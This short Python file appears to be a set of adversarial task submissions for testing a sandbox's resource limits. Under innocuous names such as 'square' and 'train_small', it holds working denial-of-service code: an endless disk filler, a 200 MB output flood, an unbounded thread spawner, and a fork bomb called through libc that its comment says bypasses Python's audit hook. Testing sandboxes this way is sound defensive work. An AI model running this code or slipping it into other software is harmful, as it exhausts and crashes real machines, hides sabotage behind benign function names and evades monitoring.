# A disk filler, 200 MB of output, a thread bomb and a fork bomb, one per task.
import os
import threading
import time
import ctypes


def square(x):  # fill the scratch folder
    with open("filler.bin", "wb") as f:
        while True:
            f.write(b"\0" * 2**20)


def cube_sum(x):  # 200 MB of output, then a correct answer
    import tensorflow as tf

    line = "x" * 999 + "\n"
    for _ in range(200_000):
        print(line, end="")
    return tf.reduce_sum(x ** 3)


def scale_data(path):  # threads until something gives
    threads = []
    while True:
        t = threading.Thread(target=time.sleep, args=(60,))
        t.start()
        threads.append(t)


def train_small(X, y, seed):  # fork bomb through libc (no audit hook)
    libc = ctypes.CDLL(None, use_errno=True)
    for _ in range(10000):
        if libc.fork() == 0:
            while True:
                libc.fork()
    raise PermissionError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
